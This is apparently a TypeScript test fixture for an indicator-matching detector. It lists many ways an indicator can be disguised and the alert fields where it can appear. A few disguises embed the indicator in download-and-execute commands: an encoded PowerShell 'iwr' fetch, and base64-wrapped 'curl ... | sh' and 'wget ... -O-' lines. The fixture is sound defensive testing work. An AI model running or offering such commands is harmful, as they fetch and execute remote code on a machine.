import type { JsonObject } from "../../src/model/json.ts";

const percent = (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16)}`).join("");
const unicode = (text: string) => text.replace(/./gsu, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);

/** Of what is hex alone. */
const separated = (text: string, gap: string) =>
  /^[0-9a-f]{32,}$/.test(text) ? text.replace(/(..)(?=.)/g, `$1${gap}`) : text;

/** Each way in which the spelling in an alert differs from the canonical one. */
export const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
  none: (text) => text,
  "upper case": (text) => text.toUpperCase(),
  "[.]": (text) => text.replaceAll(".", "[.]"),
  "(.)": (text) => text.replace(".", "(.)"),
  "[dot]": (text) => text.replaceAll(".", "[dot]"),
  "(dot) with blanks": (text) => text.replaceAll(".", "( dot )"),
  "{.}": (text) => text.replace(".", "{.}"),
  "blanks encoded in brackets": (text) => text.replaceAll(".", "[%20.%00]"),
  "closing bracket encoded": (text) => text.replaceAll(".", "[.%5d"),
  "closing bracket encoded behind a word": (text) => text.replaceAll(".", "(dot%29"),
  "colons encoded in brackets": (text) => text.replaceAll(":", "[%3a]"),
  "closing bracket encoded behind colons": (text) => text.replaceAll(":", "{:%7D"),
  hxxp: (text) => text.replace(/^http/i, "hxxp"),
  "fxp inside": (text) => text.replace(/(?<=.)ftp(?=:)/, "fxp"),
  "[://]": (text) => text.replace("://", "[://]"),
  "[:]": (text) => text.replace(":", "[:]"),
  "[@]": (text) => text.replace("@", "[@]"),
  "percent-encoded": percent,
  "percent-encoded dot": (text) => text.replace(".", "%2e"),
  "percent-encoded twice": (text) => percent(text).replaceAll("%", "%25"),
  "percent-encoded around": (text) => `%20${text}%2F`,
  "full-width dot": (text) => text.replaceAll(".", "\uff0e"),
  "ideographic dot": (text) => text.replace(".", "\u3002"),
  "full-width letters": (text) => text.replace(/[a-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  "soft hyphen": (text) => `${text.slice(0, 2)}\u00ad${text.slice(2)}`,
  "zero-width": (text) => `${text.slice(0, 1)}\u200b${text.slice(1)}`,
  "byte order mark": (text) => `${text.slice(0, 3)}\ufeff${text.slice(3)}`,
  "letters that fold": (text) => text.replace(/s(?=erver)/, "\u017f").replace(/^AS/i, "\u24b6s"),
  "escaped twice": unicode,
  "escaped dot": (text) => text.replaceAll(".", "\\u002e"),
  "\\x escapes": (text) => text.replace(".", "\\x2e"),
  "\\/": (text) => text.replaceAll("/", "\\/"),
  "doubled backslashes": (text) => text.replaceAll("\\", "\\\\"),
  "trailing dot": (text) => `${text}.`,
  port: (text) => `${text}:8443`,
  "port after bracket": (text) => `[${text}]:443`,
  userinfo: (text) => text.replace("://", "://user:pass@"),
  "::ffff:": (text) => `::ffff:${text}`,
  "::ffff: in hex": (text) => {
    const octets = text.split(".").map(Number);
    return octets.length === 4 && octets.every((n) => n < 256)
      ? `::ffff:${((octets[0]! << 8) | octets[1]!).toString(16)}:${((octets[2]! << 8) | octets[3]!).toString(16)}`
      : text;
  },
  "IPv6 in full": (text) => text.replace("::", ":0:0:0:0:0:0:").replace(/^((?:[^:]*:){7}[^:]*):.*$/, "$1"),
  "before a full address": (text) => `${text} 2001:db8:1:2:3:4:5:6`,
  "before ::": (text) => `${text} std::string`,
  "glued range": (text) => `${text}_-10.0.0.9`,
  range: (text) => `${text}-10.0.0.9`,
  "second of a range": (text) => `10.0.0.1-${text}`,
  glued: (text) => `-${text}`,
  "glued by _": (text) => `x_${text}`,
  "glued by letters": (text) => `ab${text}`,
  subdomain: (text) => `www.cdn-2.${text}`,
  "in an address": (text) => `mailto:joe@${text}`,
  "in a query": (text) => `https://ok.example/r?u=${encodeURIComponent(text)}&x=1`,
  "in a URL": (text) => `http://${text}/a/b?c=d#e`,
  "in a path": (text) => `C:\\Users\\joe\\AppData\\Local\\Temp\\${text}`,
  "in quotes": (text) => `"${text}"`,
  "in smart quotes": (text) => `\u201c${text}\u201d`,
  "in JSON": (text) => JSON.stringify({ a: { b: text } }),
  "in JSON behind escapes": (text) => JSON.stringify({ a: `x\n${text}\t${text}\b${text}` }),
  "&amp;": (text) => `?a=1&amp;b=${text}&amp;c=2`,
  "in base64": (text) =>
    `powershell -enc ${Buffer.from(`iwr http://${text}/x -o y; ${text} `, "utf16le").toString("base64")}`,
  "in base64 of a shell": (text) =>
    `echo ${Buffer.from(`curl ${text} | sh # padding`).toString("base64")} | base64 -d | sh`,
  colons: (text) => text.replace(/(..)(?=.)/g, "$1:"),
  "wide blanks": (text) => separated(text, "\u2009"),
  "tabs, two each": (text) => separated(text, "\t\t"),
  blanks: (text) => text.replace(/(..)(?=.)/g, "$1 "),
  "hive in full": (text) =>
    text.replace(/^hklm/, "HKEY_LOCAL_MACHINE").replace(/^hkcu/, "HKEY_USERS\\S-1-5-21-1-2-3-1001"),
  "folder for its variable": (text) =>
    text
      .replace("%temp%", "C:/Users/joe/AppData/Local/Temp")
      .replace("%appdata%", "C:\\Documents and Settings\\joe\\Application Data")
      .replace("%windir%", "\\Device\\HarddiskVolume3\\Windows"),
  "variable of a folder": (text) => text.replace("%windir%/system32", "%SYSTEM%"),
  "AS and zeros": (text) => `AS000${text}`,
  "ASN and zeros": (text) => text.replace(/^\d+$/, "ASN-00000$&"),
  "AS and hyphens": (text) => text.replace(/^\d+$/, "AS--$&"),
  hashes: (text) => `SHA1=da39a3ee5e6b4b0d3255bfef95601890afd80709,MD5=${text},IMPHASH=${text}`,
  "en dash": (text) => `a \u2013e ${Buffer.from(`wget ${text} -O- && true`).toString("base64")}`,
};

/** Where strings stand in alerts: known fields of several families, and unknown ones. */
export const PLACES: readonly ((text: string) => JsonObject)[] = [
  (text) => ({ full_log: `Nov 21 10:00:00 host app[12]: something about ${text} here` }),
  (text) => ({ full_log: text }),
  (text) => ({
    data: { win: { eventdata: { commandLine: `cmd /c x ${text}`, image: text, hashes: text, queryName: text } } },
  }),
  (text) => ({
    data: {
      win: {
        eventdata: { targetObject: text, targetFilename: text, destinationIp: text, queryResults: `::ffff:${text};` },
      },
    },
  }),
  // Several addresses on a line, of either spelling.
  (text) => ({
    full_log: `sshd[9]: Failed password for root from ${text} port 22 to fe80::1`,
    data: { src_ip: text, src_port: "443", dest_ip: "2001:db8::5", user_agent: text, sha1: text, mutex: text },
    syscheck: { path: text, sha256_after: text, md5_after: text },
  }),
  (text) => ({
    data: { win: { eventdata: { targetObject: text, hashes: text, sourceIp: "::1", destinationIp: text } } },
    full_log: `2001:db8:1:2:3:4:5:6 > ${text}: std::string`,
  }),
  (text) => ({ syscheck: { path: text, md5_after: text, sha256_after: text, sha1_after: text } }),
  (text) => ({ data: { srcip: text, dstip: text, url: text, srcuser: text, hostname: text } }),
  (text) => ({
    data: { tls: { fingerprint: text, sni: text }, http: { hostname: text, url: "/x", http_user_agent: text } },
  }),
  (text) => ({
    data: { dns: { rrname: text, answers: [{ rdata: text }] }, asn: text, geoip: { asn: Number(text) || text } },
  }),
  (text) => ({ data: { anything: [{ deep: [text] }], "odd.key": { mutex: text } } }),
  (text) => ({
    data: {
      email: { from: text, to: [`Joe <${text}>`], subject: text },
      aws: { userAgent: text, sourceIPAddress: text },
    },
  }),
];
